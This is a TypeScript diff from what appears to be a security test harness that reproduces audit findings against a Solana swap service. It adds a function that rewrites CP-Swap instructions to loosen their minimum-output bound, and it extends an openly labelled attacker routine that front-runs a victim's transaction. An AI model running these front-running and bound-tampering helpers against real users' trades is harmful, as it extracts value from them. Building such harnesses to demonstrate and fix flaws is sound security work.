@@ -51,6 +51,23 @@ export function stripBounds(
   });
 }
 
+/**
+ * Rewrites every ExactIn CP-Swap swap's minimum (`minimum_amount_out`) from the bound of a
+ * slippage of `fromBps` to that of `toBps`: what a service that chose `toBps` itself would
+ * have built (issue 32: a gasless /order answered with its own, looser, slippage).
+ */
+export function loosenBounds(opened: OpenedTransaction, fromBps: number, toBps: number): void {
+  const swaps = opened.instructions.filter(isCpSwap);
+  if (swaps.length === 0) throw new Error('no CP-Swap swap in the transaction');
+  for (const ix of swaps) {
+    const data = Buffer.from(ix.data);
+    if (data.subarray(0, 8).toString('hex') !== SWAP_BASE_INPUT) continue;
+    const minimum = data.readBigUInt64LE(16);
+    data.writeBigUInt64LE((minimum * BigInt(10_000 - toBps)) / BigInt(10_000 - fromBps), 16);
+    ix.data = data;
+  }
+}
+
 /** The same rewrite on a /swap-instructions answer (JSON instructions, data in base64). */
 export function stripBoundsJson(answer: Json, bounds: { maxIn?: bigint; last?: bigint }): Json {
   type Ix = { programId: string; accounts: unknown[]; data: string };
@@ -80,7 +97,8 @@ export async function balanceOf(connection: Connection, account: PublicKey): Pro
 /**
  * The attacker trades ahead of `transaction` on every CP-Swap pool it names, in the same
  * direction, with as much as the pool's input vault holds (the price it pays out halves or
- * worse). `fund(mint, amount)` gives the attacker that input first.
+ * worse), or `depthBps` of it (a trade sized to stay within a loose bound).
+ * `fund(mint, amount)` gives the attacker that input first.
  */
 export async function frontRun(
   connection: Connection,
@@ -90,6 +108,7 @@ export async function frontRun(
   send: (instructions: TransactionInstruction[], signers: Keypair[]) => Promise<void>,
   /** Only the hops of these mints (the stripped ones); default every hop. */
   only: { inputMint?: string; outputMint?: string } = {},
+  depthBps = 10_000,
 ): Promise<void> {
   const opened = await openTransaction(transaction, connection);
   const hops = opened.instructions
@@ -101,7 +120,7 @@ export async function frontRun(
     const inputVault = keys[6]?.pubkey as PublicKey;
     const [inputMint, outputMint] = [keys[10]?.pubkey, keys[11]?.pubkey] as PublicKey[];
     const [inputProgram, outputProgram] = [keys[8]?.pubkey, keys[9]?.pubkey] as PublicKey[];
-    const depth = await balanceOf(connection, inputVault);
+    const depth = ((await balanceOf(connection, inputVault)) * BigInt(depthBps)) / 10_000n;
     await fund(inputMint!.toBase58(), depth);
     const ata = (mint: PublicKey, program: PublicKey) =>
       PublicKey.findProgramAddressSync(
